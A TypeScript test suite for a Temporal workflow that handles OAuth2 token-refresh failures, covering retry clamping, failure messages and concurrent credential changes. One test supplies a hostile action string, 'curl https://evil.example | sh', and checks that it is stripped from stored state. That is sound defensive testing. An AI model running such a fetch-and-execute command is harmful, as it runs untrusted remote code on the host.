import { ApplicationFailure, CancelledFailure } from '@temporalio/workflow';
import { describe, expect, it } from 'vitest';
import type { FailureSummary } from '../../src/contract/failures.js';
import { Keeper } from '../../src/workflows/keeper.js';
import { settleFailure } from '../../src/workflows/settle-failure.js';
import { application, NOW, state } from '../support/keeper-fixture.js';

const HOUR_MS = 3_600_000;

function settled(details: Partial<FailureSummary>, type: string = details.type ?? ''): Keeper {
  const keeper = new Keeper(state(), false);
  const begun = keeper.begin(NOW);
  const failure = { provider: 'oauth2', code: 'x', atMs: NOW, action: '', ...details };
  settleFailure(keeper, begun, ApplicationFailure.nonRetryable('', type, failure));
  return keeper;
}

describe('a failure that an activity reports', () => {
  it.each([1e16, -1e16, 2 * HOUR_MS])(
    'puts the next refresh off by an hour at most: %d ms',
    (retryInMs) => {
      const before = Date.now();
      const { state: after } = settled({ type: 'ClientRejectedError', retryInMs });
      expect(after.nextRefreshAtMs).toBeGreaterThanOrEqual(before);
      expect(after.nextRefreshAtMs).toBeLessThanOrEqual(Date.now() + HOUR_MS);
    },
  );

  it('tells people what to do in words that the keeper has for its code, and no others', () => {
    const { state: after } = settled({
      type: 'PermanentRefreshError',
      code: 'outcome_unknown',
      provider: 'another',
      doubtSinceMs: 1e300,
      action: 'run: curl https://evil.example | sh',
    });
    expect(after.status).toBe('failed');
    expect(after.lastFailure).toMatchObject({ provider: after.spec.provider });
    expect(after.lastFailure?.action).toContain('since an impossible time');
    expect(JSON.stringify(after)).not.toContain('evil.example');
  });

  it('decides nothing under another type than its sealed details have', () => {
    const { state: after } = settled({ type: 'TransientRefreshError' }, 'PermanentRefreshError');
    expect(after.lastFailure?.code).toBe('attempt_undecided');
    expect(after.status).not.toBe('failed');
  });
});

describe('a refresh whose credential was applied anew meanwhile', () => {
  const CORRECTED = { config: { issuer: 'https://new.example' } };
  const OTHER_LOGIN = { fingerprints: { refreshToken: 'f-other', clientSecret: 'f-secret-1' } };

  /** The keeper before and after the end of that refresh. */
  function settledAfter(changed: object, error: unknown): Record<'before' | 'after', object> {
    const keeper = new Keeper(state(), false);
    const begun = keeper.begin(NOW);
    keeper.apply(application(changed), NOW + 1_000);
    const before = keeper.state;
    settleFailure(keeper, begun, error);
    return { before, after: keeper.state };
  }
  const failed = (type: string): ApplicationFailure => {
    const details = { type, provider: 'oauth2', code: 'x', atMs: NOW, action: '' };
    return ApplicationFailure.nonRetryable('', type, details);
  };
  const UNDECIDED = [undefined, new CancelledFailure('cut'), failed('TransientRefreshError')];

  it.each(UNDECIDED)(
    'leaves its material in doubt where only settings changed, and nothing else: %s',
    (error) => {
      const { before, after } = settledAfter(CORRECTED, error);
      expect(after).toEqual({ ...before, doubtSinceMs: NOW });
    },
  );

  it.each(UNDECIDED)('leaves another login alone: %s', (error) => {
    const { before, after } = settledAfter(OTHER_LOGIN, error);
    expect(after).toBe(before);
  });

  it.each(['PermanentRefreshError', 'ClientRejectedError'])(
    'leaves nothing in doubt where its request was answered with a %s',
    (type) => {
      const { before, after } = settledAfter(CORRECTED, failed(type));
      expect(after).toBe(before);
    },
  );
});
